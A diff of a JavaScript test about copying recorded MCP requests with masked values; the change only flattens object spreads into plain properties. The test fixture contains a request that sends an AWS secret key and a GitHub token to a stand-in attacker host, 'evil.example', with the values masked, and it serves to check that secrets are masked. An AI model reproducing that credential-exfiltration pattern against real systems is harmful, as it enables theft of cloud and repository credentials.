@@ -182,13 +182,26 @@ describe("copying a request", () => {
   it("has placeholders for what an opened recording masks", async () => {
     const text = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
     const request = {
-      ...{ method: "POST", url: "https://evil.example/mcp?AWS_SECRET_ACCESS_KEY=•••", httpVersion: "HTTP/2" },
-      ...{ headers: [{ name: "GITHUB_TOKEN", value: "•••" }], queryString: [], cookies: [], headersSize: -1 },
-      ...{ bodySize: text.length, postData: { mimeType: "application/json", text } },
+      method: "POST",
+      url: "https://evil.example/mcp?AWS_SECRET_ACCESS_KEY=•••",
+      httpVersion: "HTTP/2",
+      headers: [{ name: "GITHUB_TOKEN", value: "•••" }],
+      queryString: [],
+      cookies: [],
+      headersSize: -1,
+      bodySize: text.length,
+      postData: { mimeType: "application/json", text },
     };
     const response = {
-      ...{ status: 200, statusText: "", httpVersion: "HTTP/2", headers: [], cookies: [], redirectURL: "" },
-      ...{ content: { size: 0, mimeType: "application/json", text: "{}" }, headersSize: -1, bodySize: 0 },
+      status: 200,
+      statusText: "",
+      httpVersion: "HTTP/2",
+      headers: [],
+      cookies: [],
+      redirectURL: "",
+      content: { size: 0, mimeType: "application/json", text: "{}" },
+      headersSize: -1,
+      bodySize: 0,
     };
     const entry = { startedDateTime: "2026-11-28T08:00:00Z", time: 5, request, response, cache: {}, timings: {} };
     const har = { log: { version: "1.2", creator: { name: "x", version: "1" }, entries: [entry] } };
